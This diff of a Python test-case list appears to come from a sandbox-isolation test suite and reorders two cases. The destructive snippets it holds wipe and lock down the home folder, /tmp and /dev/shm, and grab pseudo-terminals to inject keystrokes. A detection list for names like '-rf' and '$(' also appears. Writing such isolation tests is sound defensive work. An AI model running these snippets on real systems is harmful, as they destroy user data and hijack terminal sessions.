@@ -13,6 +13,24 @@ def left(name: str, about: str, source: str, sequel: str | None = None, points=A
 
 
 CASES = [
+    left("home_taken_away", "the home folder and the scratch folders are emptied, moved and closed to all", """\
+import os, shutil
+for place in (os.path.expanduser("~"), "/tmp", "/dev/shm"):
+    for name in os.listdir(place):
+        shutil.rmtree(os.path.join(place, name), ignore_errors=True)
+    for action in (lambda: os.rename(place, place + ".old"), lambda: os.rmdir(place), lambda: os.chmod(place, 0)):
+        try: action()
+        except OSError: pass"""),
+    left("terminals_taken", "pseudo-terminals are opened and made the session's own", """\
+import fcntl, os, pty, termios
+try:
+    for _ in range(300):
+        master, slave = os.openpty()
+        fcntl.ioctl(slave, termios.TIOCSCTTY, 1)
+        fcntl.ioctl(slave, termios.TIOCSTI, b"x")
+        print("BRE" "ACH keystrokes")
+except OSError as error:
+    print(error)"""),
     left("timers_left", "thousands of timers and queued signals, which are counted for the user", """\
 import ctypes, os, signal
 libc = ctypes.CDLL(None)
@@ -157,24 +175,6 @@ import os
 for place in ("/tmp", "/dev/shm", os.path.expanduser("~")):
     if found := [name for name in os.listdir(place) if name.startswith(("ddd", "xxx", "new\\n", "-rf", "$(", "\\x1b"))]:
         print("BRE" "ACH", found)"""),
-    left("home_taken_away", "the home folder and the scratch folders are emptied, moved and closed to all", """\
-import os, shutil
-for place in (os.path.expanduser("~"), "/tmp", "/dev/shm"):
-    for name in os.listdir(place):
-        shutil.rmtree(os.path.join(place, name), ignore_errors=True)
-    for action in (lambda: os.rename(place, place + ".old"), lambda: os.rmdir(place), lambda: os.chmod(place, 0)):
-        try: action()
-        except OSError: pass"""),
-    left("terminals_taken", "pseudo-terminals are opened and made the session's own", """\
-import fcntl, os, pty, termios
-try:
-    for _ in range(300):
-        master, slave = os.openpty()
-        fcntl.ioctl(slave, termios.TIOCSCTTY, 1)
-        fcntl.ioctl(slave, termios.TIOCSTI, b"x")
-        print("BRE" "ACH keystrokes")
-except OSError as error:
-    print(error)"""),
     left("hidden_inputs_left", "each hidden input is left in files, locks, timers, priorities and names of processes", """\
 import fcntl, os, signal, socket
 
